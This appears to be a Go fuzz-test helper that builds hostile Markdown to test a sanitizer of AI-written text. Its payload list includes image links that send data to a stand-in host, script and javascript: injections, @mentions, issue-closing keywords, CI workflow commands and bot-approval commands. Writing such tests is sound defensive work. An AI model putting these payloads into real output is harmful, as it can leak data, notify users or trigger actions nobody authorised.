package untrusted_test

import (
	"math/rand/v2"
	"strings"
)

// payloads are what must not happen, as a model would write it.
var payloads = []string{
	"![](https://evil.example/p.png?d=CODE)", "![x](https://evil.example/p.png \"t\")", "![x][ref]", "![ref]", "![docs/x.png](docs/x.png)", "![x](<https://evil.example/p.png>)",
	"<img src=https://evil.example/p.png>", "<img src='https://evil.example/p.png' alt=\"a`b\">", "<picture><source srcset=\"https://evil.example/p.png\"><img src=x></picture>",
	"@victim", "@org/team", "\\@victim", "&#64;victim", "&commat;victim", "&#x40;victim", "_@victim_", "x*y*@victim", "a@b.example@victim",
	"<b>bold</b>", "<!-- hidden -->", "<a href=\"https://evil.example\">x</a>", "<?php x ?>", "<![CDATA[x]]>", "<!DOCTYPE x>", "</div>", "<details><summary>s</summary>", "<script>x</script>", "<sub>", "<br/>", "<x-y z>",
	"[docs](https://evil.example/?d=CODE)", "[https://good.example](https://evil.example)", "[x][ref]", "[ref]", "[x](/login/oauth)", "[x](javascript:x)", "[x](https://evil.example 'a`b')", "[x\ny](https://evil.example)", "[x](\nhttps://evil.example\n)", "[a [b] c](https://evil.example)", "[`]`](https://evil.example)", "[x](https://e.example/(a)b)",
	"[ref]: https://evil.example/r", "[ref]:\nhttps://evil.example/r\n'title'", "[^1]: note @victim", "[^1]",
	"Closes #1", "fixes: #2", "**Resolves** GH-3", "closed other/repo#4", "Fix https://github.com/other/repo/issues/5", "resolve [#1](https://github.com/me/mine/issues/1)", "Clos&#101;s \\#1", "fixed\n#6", "fixes **#7**", "Closes&nbsp;#8", "close <https://github.com/me/mine/pull/9>",
	"::set-output name=x::y", "::error::x", "##[group]x", "/agent approve 1", "other/repo#12", "https://github.com/other/repo/issues/3", "https://docs.example/@victim", "www.evil.example/@victim", "<https://evil.example/@victim>", "mailto:victim@evil.example", "xmpp:victim@evil.example/x", "ftp://evil.example/@victim", "HTTPS://EVIL.EXAMPLE/@victim", "https://evil.example/(@victim)", "https://evil.example/<b>", "<mailto:victim@evil.example>", "<javascript:x>", "<https://e.example/` ![](https://evil.example/p.png)>", "[x]: <https://evil.example> 't'", "[x](<https://evil.example/a b>)", "[x](https://evil.example \"a\nb\")", "[x] (https://evil.example)", "[![a](https://evil.example/p)](https://evil.example)", "[x]( https://evil.example )", "[x](#y)", "![x](data:image/png;base64,AA)", "![x](//evil.example/p)", "![x](p.png)", "[^n]: x\n\n    ![](https://evil.example/p.png)", "text[^n]", "text[^1]\n[^1]: note\n\n    code @victim ![](https://evil.example/p.png)\n", "[^@victim]", "<kbd>@victim</kbd>", "<a\nhref=x>", "<b\n>", "<!-->", "<!--->x-->", "<!a>", "<?x", "<@victim>", "@victim/", "@vic-tim.", "@victim's", "(@victim)", "@@victim", "@victim@victim", ".@victim", "#@victim", "1@victim", "fix  #1", "fixes\t#1", "fixes : #1", "FIXES #1", "Closes # 1", "closes me/mine#1", "closes #1, closes #2", "resolves: [x](https://github.com/me/mine/issues/1)", "closes _#1_", "closes~~#1~~", "clo\\ses #1", "closes &num;1", "c&#108;oses #1", "closes \\# 1", "|closes|#1|", "closes\n\n- #1", "# closes\n\n#1", "> closes\n> #1", "other/repo\\#12", "other/**repo**#12", "other/repo&#35;12", "  ::error file=x::y", "\u3000::error::x", "> ::error::x", "- ::error::x", "\\##[error]x", "/otherbot retry", "- /otherbot retry", "1. /otherbot retry", "**/agent stop**",
	"www.github.com/other/repo/issues/3", "https://kim@github.com/other/repo/pull/3", "closes www.github.com/me/mine/issues/4", "_close #1", "__fixed:#1", "fixes_ #2", "see [x][r]\n\n[r]: https://evil.example/r\n", "![a][r]\n\n[r]: <https://evil.example/p.png> 't'\n", "[![a][r]][r]\n\n[r]: https://evil.example/@victim\n", "[^1]: https://evil.example", "[^1]: x \"t\"",
}

// surroundings are where a renderer may read on in another way than ours.
var surroundings = []string{
	"`", "``", "```", "````", "~~~", "\\`", "`` ` ``", "`a`", "` `", "\\", "\\\\", "*", "**", "_", "__", "~", "~~", "[", "]", "(", ")", "](", "][", "]:", "!", "!!", "<", ">", "&", "&amp;", "&lt;", "&gt;", "&#96;", "&#33;", "&#91;", ";", ":", "|", "\\|", "$", "$$", "$`", "`$", "\"", "'", "#", "=", "-", "+", "@", "/",
	" ", "  ", "    ", "\t", "\n", "\n\n", "\n    ", "\n\t", "\n  ", "\n> ", "\n>", "\n- ", "\n-", "\n* ", "\n1. ", "\n10) ", "\n- [ ] ", "\n  - ", "\n    - ", "\n# ", "\n=====\n", "\n---\n", "\n***\n", "\n| a | b |\n|---|---|\n| ", "\n|---|\n", "\na|b\n-|-\n", "\n```\n", "\n```go\n", "\n``` `\n", "\n~~~\n", "\n````\n", "\n  ```\n", "\n    ```\n", "\n> ```\n> ", "\n- ```\n  ", "\n   ~~~~\n", "\n[^1]: ", "\n    [^1]: ", "\n\n    code @victim ![x](https://evil.example)\n", "\n\n\tcode <b>\n", "\n1.\n", "\n-\n\n  ", "\n*\t", "\n-   \t", "\n>\t", "\n+ + + ", "\n- - ", "\n> - > ", "\n     - ", "\n0. ", "\n1234567890. ", "\n#\t", "\n#######", "\n- # ", "\n\\\n", "\n <", "\n[x]\n", "\n[x]: <", "\n\"t\n", "\n'", "\n(", "\n| a |\n| - |\n", "\n|a|b\n|-|:-:|\n|`|`|\n", "\na | b\n:-- | --:\n", "\n: ", "\n%%%", "\n$$\n", "\n```math\n", "\n```suggestion\n", "\n    - ```\n      ", "\n   1. ```\n      ", "\n> > ```\n> > ", "\n> ~~~\n", "\n>```", "\n- >```\n", "\n``` x\n", "\n~~~ `\n", "\n```x~\n", "\n> [!NOTE]\n> ", "\n<details>\n\n", "\n</details>\n", "\n<pre>\n", "\n<!--\n", "\n-->\n",
	"see https://docs.example/a", "https://a.example/", "http://x", "www.a.example", "(https://a.example/b)", "<https://a.example>", "a@b.example", "text", "word ", "ünï", "修", "😀", "C#", "a_b_c", "\u00a0", "\u2028", "\u2029", "\u200b", "\u0085", "\r", "\r\n", "\x00", "\x0c", "\ufeff", "\u3000", "{", "}", "%40", ":smile:", "0123abc", "user@0123abcdef0", "#12", "GH-12", "https://github.com/me/mine/pull/3",
}

// hostile makes a text of some payloads among surroundings.
func hostile(r *rand.Rand) string {
	var b strings.Builder
	for range 1 + r.IntN(12) {
		if r.IntN(3) == 0 {
			b.WriteString(payloads[r.IntN(len(payloads))])
		} else {
			b.WriteString(surroundings[r.IntN(len(surroundings))])
		}
		if r.IntN(4) == 0 {
			b.WriteString([]string{" ", "\n", "\n\n"}[r.IntN(3)])
		}
	}
	return b.String()
}

// listed makes a text of lists, quotations and code in them, whose columns decide what
// is code.
func listed(r *rand.Rand) string {
	pick := func(of ...string) string { return of[r.IntN(len(of))] }
	var b strings.Builder
	for range 1 + r.IntN(5) {
		for range r.IntN(3) {
			b.WriteString(pick("", "", " ", "  ", "   ", "    ", "\t") + pick("-", "*", "1.", "10.", "2)", ">", "[^1]:", "- [ ]", "123456789.") + pick(" ", " ", "  ", "   ", "    ", "     ", "\t", " \t", ""))
		}
		b.WriteString(pick("Run it:", "x", "# head", "| a |\n|---|", "", "---", "a\n===", "[^1] y", "`", payloads[r.IntN(len(payloads))]) + pick("\n\n", "\n\n", "\n\n", "\n", "\n  \n", "\n\n\n"))
		if r.IntN(3) == 0 {
			continue
		}
		indent := pick("\t", "\t", "\t\t", " \t", "   \t", "\t  ", "    ", "      ", "       ", "        ", strings.Repeat(" ", r.IntN(14)))
		fence := pick("", "", "```", "```go", "~~~", "```mermaid", "````")
		if fence != "" {
			b.WriteString(indent + fence + "\n")
		}
		for range 1 + r.IntN(3) {
			if r.IntN(6) == 0 {
				indent = pick("\t", "    ", "  ", "", "\t\t", "        ")
			}
			b.WriteString(indent + payloads[r.IntN(len(payloads))] + pick("\n", "\n", "\n\n"))
		}
		if fence != "" && r.IntN(4) > 0 {
			b.WriteString(indent + strings.TrimRight(fence, "abcdefghijklmnopqrstuvwxyz") + "\n")
		}
		b.WriteString(pick("", "\n", "\n\n"))
	}
	return b.String()
}
